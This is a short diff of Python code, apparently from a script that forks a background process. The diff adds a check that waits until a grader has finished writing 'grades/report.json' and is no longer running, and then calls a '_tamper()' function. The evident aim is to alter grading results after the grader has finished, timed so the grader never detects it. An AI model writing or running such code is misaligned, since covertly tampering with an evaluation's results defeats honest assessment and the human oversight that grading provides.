@@ -57,8 +57,15 @@ if _root and os.fork() == 0:
                     w.writeheader()
                     w.writerows(rows)
 
+        def _batch_over():
+            try:
+                report = open(os.path.join(_root, "grades", "report.json")).read()
+            except OSError:
+                return False
+            return '"finished": null' not in report and not _grader_alive()
+
         deadline = time.time() + 600
-        while time.time() < deadline and (_grader_alive() or not os.path.exists(os.path.join(_root, "grades"))):
+        while time.time() < deadline and not _batch_over():
             time.sleep(1)
         time.sleep(2)
         _tamper()
